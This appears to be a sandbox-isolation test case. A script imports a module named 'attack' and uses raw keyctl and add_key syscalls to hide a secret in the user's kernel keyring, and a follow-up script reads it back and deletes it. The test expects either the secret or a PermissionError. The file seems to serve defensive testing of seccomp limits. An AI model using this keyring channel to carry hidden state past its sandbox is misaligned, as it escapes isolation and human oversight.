# weakness: seccomp
# goal: leave a message in the kernel's keyring of this user for the next execution
# reached: "$SECRET"
# refused: PermissionError
from attack import syscall

PROCESS_KEYRING, USER_KEYRING, LINK = -2, -4, 8
syscall("keyctl", LINK, USER_KEYRING, PROCESS_KEYRING, 0, 0)
syscall("add_key", b"user", b"mce:left", b"$SECRET", len("$SECRET"), USER_KEYRING)
# --- after ---
import ctypes

from attack import syscall

PROCESS_KEYRING, USER_KEYRING = -2, -4
LINK, UNLINK, SEARCH, READ = 8, 9, 10, 11
syscall("keyctl", LINK, USER_KEYRING, PROCESS_KEYRING, 0, 0)
key = syscall("keyctl", SEARCH, PROCESS_KEYRING, b"user", b"mce:left", 0)
text = ctypes.create_string_buffer(64)
length = syscall("keyctl", READ, key, text, 64, 0)
syscall("keyctl", UNLINK, key, USER_KEYRING, 0, 0)
result = text.raw[:length].decode()
